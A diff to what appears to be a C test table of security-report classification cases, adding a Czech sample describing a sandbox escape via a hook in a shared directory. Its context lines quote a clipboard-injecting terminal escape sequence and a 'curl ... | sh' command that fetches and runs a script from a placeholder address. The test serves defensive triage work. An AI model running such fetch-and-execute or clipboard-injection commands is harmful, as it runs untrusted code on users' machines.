@@ -31,6 +31,10 @@ static const ClassCase class_cases[] = {
 	  "  msb run -d --name esc alpine -- sh -c 'printf \"\\033]52;c;%s\\a\" \"$(printf x | base64)\"'\n"
 	  "  $ msb logs esc\n  $ xclip -o -selection clipboard\n  curl -s http://203.0.113.50/x | sh\n",
 	  "sandbox_escape", "core" },
+	/* (3514) Czech: "Únik ze sandboxu", code run "na hostiteli" */
+	{ "msb spou\u0161t\u00ed hook ze sd\u00edlen\u00e9ho adres\u00e1\u0159e",
+	  "Dopad:\n\u00danik ze sandboxu. Libovoln\u00fd k\u00f3d v sandboxu z\u00edsk\u00e1 spu\u0161t\u011bn\u00ed "
+	  "k\u00f3du na hostiteli.\n", "sandbox_escape", "core" },
 	/* (3487) Portuguese: "uma fuga do sandbox" (no data leak) and
 	 * "executa c\u00f3digo arbitr\u00e1rio no host" */
 	{ "Sandbox.resume() unpickles a guest file",
